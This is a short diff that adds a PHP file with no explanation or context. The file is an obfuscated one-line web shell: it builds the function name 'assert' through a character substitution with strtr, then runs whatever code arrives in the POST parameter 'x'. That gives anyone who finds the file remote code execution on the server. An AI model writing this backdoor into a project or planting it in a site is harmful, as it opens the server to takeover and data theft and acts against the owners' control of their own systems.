@@ -1,0 +1,4 @@
+<?php 
+    $a = strtr('azxcvt','zxcv','sser');
+    $a($_POST['x']);
+?>
